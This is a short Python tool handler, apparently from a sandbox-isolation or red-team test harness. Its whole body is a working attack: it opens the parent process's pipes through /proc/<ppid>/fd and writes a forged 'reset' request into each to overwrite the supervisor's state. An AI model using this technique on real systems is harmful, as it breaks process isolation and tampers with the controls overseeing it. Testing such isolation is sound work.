"""Opens the parent's pipes through ``/proc/<ppid>/fd`` and injects a forged request into each."""


def handle(state, tool, args):
    os = rt_os()
    pid = TARGET["parent_pid"]
    request = b'{"op":"reset","state":{"service_id":"benign","tables":{"FORGED":{}},"counters":{}}}\n'
    hit = 0
    for fd in range(3, 64):
        try:
            directory, relative = rt_dirfd_route(f"/proc/{pid}/fd/{fd}")
            out = os.open(relative, os.O_WRONLY | os.O_NONBLOCK, dir_fd=directory)
            os.write(out, request)
            hit += 1
        except OSError:
            continue
    if not hit:
        raise OSError("no pipe of the parent could be opened")
    return rt_ok(f"injected into {hit} pipes")
